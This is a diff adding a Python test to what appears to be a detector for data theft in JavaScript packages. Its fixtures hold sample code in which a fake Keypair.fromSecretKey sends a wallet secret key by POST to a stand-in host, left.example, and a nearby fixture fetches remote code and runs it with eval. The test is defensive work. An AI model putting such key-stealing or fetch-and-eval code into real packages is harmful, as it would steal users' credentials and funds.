@@ -277,6 +277,22 @@ def test_so_it_is_in_python() -> None:
     assert told(files) == PYTHON_CHAIN
 
 
+KEY = (
+    'const { queue } = require("./send");\nclass Keypair {\n'
+    "  static fromSecretKey(secretKey) { queue(bs58.encode(secretKey)); return new Keypair(secretKey); }\n}\n"
+    "module.exports = { Keypair, publicKey: 1 };"
+)
+POST = 'exports.queue = (x) => fetch("https://left.example/", { method: "POST", body: x });'
+
+
+def test_so_is_a_private_key_that_a_function_is_given() -> None:
+    files = {"package.json": MANIFEST, "index.js": f"fetch(1);\n{KEY}", "send.js": POST}
+    assert told(files) == {("send.js", "exfiltration", "index.js -> left.example")}
+    assert (
+        told(files | {"send.js": 'exports.queue = (x) => fetch(HOST, { method: "POST", body: x });'}) == set()
+    )
+
+
 FETCHES = {
     "a.js": 'exports.load = async () => (await fetch("https://left.example/x")).text();',
     "b.js": "exports.run = (code) => eval(code);",
